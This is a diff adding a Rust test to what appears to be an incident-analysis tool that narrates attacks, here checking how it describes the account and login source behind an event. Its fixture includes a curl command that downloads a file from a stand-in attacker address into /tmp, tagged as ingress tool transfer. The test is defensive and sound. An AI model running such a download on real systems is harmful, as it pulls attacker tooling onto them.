@@ -47,6 +47,21 @@ fn a_web_shell_reads_as_its_story() {
 }
 
 #[test]
+fn who_is_the_account_and_where_its_log_in_came_from() {
+    let who = |with_session: bool| {
+        let mut id = p(2000, "/usr/bin/curl", "curl -o /tmp/x http://203.0.113.9/x");
+        id.login_source = Some("198.51.100.7".into());
+        if with_session {
+            (id.session_id, id.login_name) = (Some(4), Some("alice".into()));
+        }
+        incident(&[told("a", 0, "T1105", "file-write-close", below(id, &login(4)))]).who
+    };
+    assert_eq!(who(true).sentence.text.en, "root, who logged in as alice from 198.51.100.7 (session 4)");
+    assert_eq!(who(true).source.as_deref(), Some("198.51.100.7"));
+    assert_eq!(who(false).sentence.text.en, "Account root, from address 198.51.100.7");
+}
+
+#[test]
 fn a_program_in_memory_that_was_there_long_before_is_not_where_the_attack_entered() {
     let entry_at = |started_before: i64| {
         let mut helper = p(300, "/memfd:helper", "helper --serve");
